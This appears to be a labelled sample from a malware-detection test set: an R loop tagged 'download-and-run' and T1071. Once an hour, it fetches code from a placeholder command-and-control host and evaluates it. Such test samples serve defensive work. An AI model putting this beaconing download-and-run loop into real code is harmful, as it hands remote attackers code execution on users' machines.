# expect: download-and-run | source: T1071
repeat {
  eval(parse(text = readLines(url("http://c2.example.invalid/next"))))
  Sys.sleep(3600)
}
